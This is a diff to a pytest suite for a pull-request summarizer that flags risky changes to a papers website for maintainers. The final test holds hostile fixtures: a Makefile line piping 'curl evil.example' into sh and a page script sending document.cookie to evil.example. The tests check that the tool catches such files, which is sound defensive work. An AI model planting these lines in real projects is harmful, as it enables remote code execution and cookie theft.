@@ -103,9 +103,14 @@ def test_a_paper_pr_lists_added_changed_removed_papers_new_authors_and_topics(re
     assert "**Removed** (1)" in summary and "papers/old-survey.md" in summary
     assert "- An Old Survey (`papers/old-survey.md`)" in summary  # the removed paper's title, from the base
     assert "Katherine Johnson" in summary
-    # topics.yml is part of a paper PR, but a change to it is site-wide: flagged for a maintainer, not refused
-    assert workflow_annotations(report) == ["::warning file=topics.yml,title=Needs a maintainer::topics.yml changes the topics "
-                                   "every page lists; new topic 'audio' ('Audio')"]
+    # topics.yml is part of a paper PR, but a change to it is site-wide: flagged for a maintainer, not refused;
+    # so is a published author page that goes with the removed paper
+    assert workflow_annotations(report) == [
+        "::warning file=papers/,title=Needs a maintainer::papers/ removes existing authors' pages (their published "
+        "addresses will answer 404); 'Grace Hopper' (1 paper) loses their page authors/grace-hopper/ (no paper of "
+        "theirs is left)",
+        "::warning file=topics.yml,title=Needs a maintainer::topics.yml changes the topics every page lists; new "
+        "topic 'audio' ('Audio')"]
 
 
 def test_an_author_known_only_from_the_papers_own_earlier_version_is_not_new(repo):
@@ -125,7 +130,12 @@ def test_files_outside_a_paper_pr_are_flagged_as_warnings_not_failures(repo, cap
     assert main(["--root", str(repo), "--base", "main"]) == 0
     out = capsys.readouterr().out
     assert "Needs a maintainer" in out
-    assert "::warning file=mkdocs.yml,title=Needs a maintainer::mkdocs.yml is outside papers/" in out
+    # each file is annotated once, with what its change can do
+    assert out.count("::warning file=mkdocs.yml,") == 1 and out.count("::warning file=docs/extra.md,") == 1
+    assert "::warning file=mkdocs.yml,title=Needs a maintainer::mkdocs.yml changes the site's configuration" in out
+    assert ("::warning file=docs/extra.md,title=Needs a maintainer::docs/extra.md adds a page of the site's own (its "
+            "Markdown is published as written, raw HTML and scripts included)") in out
+    assert "It also changes:" not in out  # the list of files no flag explains is empty
 
 
 def test_a_symlink_in_papers_is_refused(repo, tmp_path, capsys):
@@ -220,13 +230,14 @@ def test_the_summary_shows_each_changed_field_old_and_new(repo):
                                               "'A new abstract.'")}
     summary = render_summary(report)
     assert "### What changed in each changed paper" in summary
-    assert "| `title` | Probing Classifiers | Probing Classifiers \\| Revisited |" in summary
+    assert "| `title` | Probing Classifiers<del>(nothing)</del> | Probing Classifiers<ins> \\| Revisited</ins> |" in summary
     assert "| `venue` | — | NeurIPS 2024 |" in summary
     assert "| `links.code` | — | `https://example.org/code` |" in summary  # a code span: exact, no autolink
     assert "| `authors[+3]` | — | Mary Somerville |" in summary
-    assert "| abstract and notes | The abstract of An Old Survey\\. | A new abstract\\. |" in summary
+    assert ("| abstract and notes | <del>The abstract of An Old Survey\\.</del> | <ins>A new abstract\\.</ins> |"
+            in summary)
     rendered = markdown.markdown(summary, extensions=["tables"])
-    assert "<td>Probing Classifiers | Revisited</td>" in rendered
+    assert "<td>Probing Classifiers<ins> | Revisited</ins></td>" in rendered
 
 
 def test_a_reformatted_paper_says_no_field_changed(repo):
@@ -316,7 +327,9 @@ def test_a_change_to_the_twentieth_link_is_shown_with_its_key_old_and_new(repo):
     write(repo, {"papers/probing.md": before.replace("https://arxiv.org/pdf/1", "https://evil.example/pdf/1")})
     commit(repo)
     summary = render_summary(summarize_pr(repo, "main", "HEAD"))
-    assert "| `links.pdf` | `https://arxiv.org/pdf/1` | `https://evil.example/pdf/1` |" in summary
+    # a link is marked character by character, the host that changed between its unchanged parts
+    assert ("| `links.pdf` | `https://`<del>`arxiv.org`</del>`/pdf/1` | `https://`<ins>`evil.example`</ins>`/pdf/1` |"
+            in summary)
     assert "mirror03" not in summary  # unchanged keys are not repeated
 
 
@@ -331,7 +344,7 @@ def test_a_long_value_changed_near_its_end_shows_the_changed_part_marked(repo):
     commit(repo)
     summary = render_summary(summarize_pr(repo, "main", "HEAD"))
     row = next(line for line in summary.splitlines() if line.startswith("| `venue`"))
-    assert "<del>4</del>" in row and "<ins>5 \\(withdrawn\\)</ins>" in row
+    assert "<del>2024</del>" in row and "<ins>2025 \\(withdrawn\\)</ins>" in row  # whole words
     assert "characters unchanged" in row and len(row) < 600
 
 
@@ -419,3 +432,123 @@ def test_a_changed_link_is_not_pushed_out_of_the_summary_by_a_bulk_import(repo):
     assert summary.count("<details>") == summary.count("</details>")  # the cut closed the list it fell in
     rendered = markdown.markdown(summary, extensions=["tables"])
     assert rendered.rstrip().endswith("read the pull request's diff for the rest.</p>")
+
+
+# --- What a maintainer deciding to merge needs told: pages that move, errors merging brings, a stale branch ----
+
+
+def test_a_renamed_paper_file_is_flagged_with_the_address_its_page_leaves(repo):
+    git(repo, "mv", "papers/probing.md", "papers/lovelace-2024-probing.md")
+    commit(repo)
+    report = summarize_pr(repo, "main", "HEAD")
+    assert report.renamed == {"papers/lovelace-2024-probing.md": "papers/probing.md"}
+    flag = flagged(report, "papers/lovelace-2024-probing.md")
+    assert flag.rank == 0 and "its page moves, and links to its old address break" in flag.what
+    assert flag.details == ("from papers/probing/ to papers/lovelace-2024-probing/ (was papers/probing.md)",)
+    summary = render_summary(report)
+    assert summary.index("renames a paper file") < summary.index("## Papers in this pull request")
+    assert ("- Probing Classifiers (`papers/lovelace-2024-probing.md`, renamed from `papers/probing.md`)"
+            in summary)
+    assert "Renamed; no field changed" in summary
+
+
+def test_errors_the_pull_request_brings_are_listed_where_they_are(repo):
+    """A duplicate of a published paper (the same DOI in other capitals), a topic topics.yml lacks and a date
+    that is not one: each named with its file, while an error the base already has is not the PR's."""
+    write(repo, {"papers/probing.md": render_paper_file({"title": "Probing Classifiers", "authors": ["Ada Lovelace"],
+                                                          "date": "2024-01-02", "topics": ["interpretability"],
+                                                          "doi": "10.1000/probe.1"}, "An abstract.")})
+    commit(repo, "a DOI on main")
+    git(repo, "branch", "-f", "main", "HEAD")
+    write(repo, {"papers/probing-again.md": render_paper_file({"title": "Probing classifiers (preprint)",
+                                                                "authors": ["A. Lovelace"], "date": "2024-01-03",
+                                                                "topics": ["interpretability"],
+                                                                "doi": "10.1000/PROBE.1"}, "Again."),
+                 "papers/medical.md": paper("Scans", ["Nora Pierce"], ["medical-imaging"]),
+                 "papers/when.md": paper("When", ["Nora Pierce"], ["interpretability"], "2024-13-45")})
+    commit(repo)
+    report = summarize_pr(repo, "main", "HEAD")
+    where = {(problem.path, problem.field) for problem in report.problems}
+    assert ("papers/medical.md", "topics[1]") in where or ("papers/medical.md", "topics") in where
+    assert any(path == "papers/when.md" for path, _ in where)
+    # said of the new file, though validation finds the published one later in name order
+    assert ("papers/probing-again.md", "doi", "duplicate of papers/probing.md") in {
+        (problem.path, problem.field, problem.message) for problem in report.problems}
+    summary = render_summary(report)
+    section = summary[summary.index("### Does not validate"):summary.index("## Papers in this pull request")]
+    assert "`papers/medical.md:" in section and "medical\\-imaging" in section and "`papers/when.md:" in section
+    assert f"collection with {len(report.problems)} errors it does not have today" in section
+    assert "Paper files that do not load (their problems are listed above)" in summary  # when.md's date
+
+
+def test_a_branch_behind_its_base_is_judged_on_the_collection_merging_would_leave(repo):
+    """Since the branch left, main renamed a topic and gained the branch's new author: the summary says the
+    branch is behind, finds the topic unknown (as the check of the merge does), and calls nobody new."""
+    write(repo, {"papers/sparse.md": paper("Sparse Features", ["Katherine Johnson"], ["vision-language"])})
+    commit(repo)
+    git(repo, "checkout", "-q", "main")
+    write(repo, {"topics.yml": TOPICS.replace("id: vision-language", "id: multimodal"),
+                 "papers/old-survey.md": paper("An Old Survey", ["Grace Hopper", "Katherine Johnson"],
+                                               ["multimodal"], "2020")})
+    commit(repo, "main moves on")
+    git(repo, "checkout", "-q", "pr")
+    report = summarize_pr(repo, "main", "pr")
+    assert report.behind == 1 and [p.path for p in report.added] == ["papers/sparse.md"]
+    assert report.new_authors == []
+    assert [(problem.path, problem.message) for problem in report.problems if "vision-language" in problem.message]
+    summary = render_summary(report)
+    assert summary.startswith(f"Pull request at `{report.head_commit[:12]}`, compared with the base branch at "
+                              f"`{report.base_commit[:12]}`. The branch is 1 commit behind it")
+
+
+def test_files_in_papers_that_are_not_papers_are_listed(repo):
+    write(repo, {"papers/sub/nested.md": paper("Nested", ["Ada Lovelace"], ["interpretability"]),
+                 "papers/notes.txt": "to read\n"})
+    commit(repo)
+    report = summarize_pr(repo, "main", "HEAD")
+    assert report.not_papers == ["papers/notes.txt", "papers/sub/nested.md"]
+    summary = render_summary(report)
+    assert "**Files in papers/ that are not papers (only papers/<name>.md is read and published)** (2)" in summary
+    assert "No paper was added" not in summary
+
+
+def test_a_topic_id_renamed_or_removed_while_papers_use_it_is_said(repo):
+    write(repo, {"topics.yml": TOPICS.replace("id: interpretability", "id: mech-interp")})
+    commit(repo)
+    details = flagged(summarize_pr(repo, "main", "HEAD"), "topics.yml").details
+    assert details[0] == ("topic id 'interpretability' renamed to 'mech-interp' ('Interpretability'): its page moves "
+                          "from topics/interpretability/ to topics/mech-interp/")
+    assert "'interpretability' is still a topic of 1 paper, which no longer validate" in details
+
+
+def test_an_alias_that_takes_an_authors_page_away_is_said_and_an_id_for_the_same_person_is_not(repo):
+    write(repo, {"authors.yml": "- name: Alan Turing\n  aliases: [Ada Lovelace]\n  homepage: https://turing.example/a\n"})
+    commit(repo)
+    report = summarize_pr(repo, "main", "HEAD")
+    [lost] = [flag for flag in report.flags if "removes existing authors' pages" in flag.what]
+    assert lost.details == ("'Ada Lovelace' (1 paper) loses their page authors/ada-lovelace/: their papers now list "
+                            "them under 'Alan Turing'",)
+    summary = render_summary(report)
+    assert "`https://turing.example/a`" in summary and "\u2060" not in summary.split("authors.yml")[1].split("\n")[2]
+    git(repo, "reset", "-q", "--hard", "main")
+    write(repo, {"authors.yml": "- id: grace-hopper\n  name: Grace Hopper\n"})
+    commit(repo)
+    assert not [flag for flag in summarize_pr(repo, "main", "HEAD").flags if flag.path == "papers/"]
+
+
+@pytest.mark.parametrize(("path", "text", "what"), [
+    (".pre-commit-config.yaml", "repos:\n- repo: https://evil.example/hooks\n  rev: v1\n  hooks: [{id: x}]\n",
+     "adds what is installed"),
+    (".gitattributes", "*.md linguist-generated=true\n", "adds how git and GitHub treat files"),
+    ("Makefile", "all:\n\tcurl evil.example | sh\n", "adds code"),
+    ("docs/index.md", "# Home\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n",
+     "adds a page of the site's own"),
+])
+def test_files_that_act_beyond_the_collection_are_flagged_with_why_and_listed_once(repo, path, text, what):
+    write(repo, {path: text})
+    commit(repo)
+    report = summarize_pr(repo, "main", "HEAD")
+    assert flagged(report, path).what.startswith(what) and flagged(report, path).rank == 0
+    summary = render_summary(report)
+    assert summary.count(f"`{path}`") == 1 and "It also changes:" not in summary
+    assert sum(f"file={path}," in line for line in workflow_annotations(report)) == 1
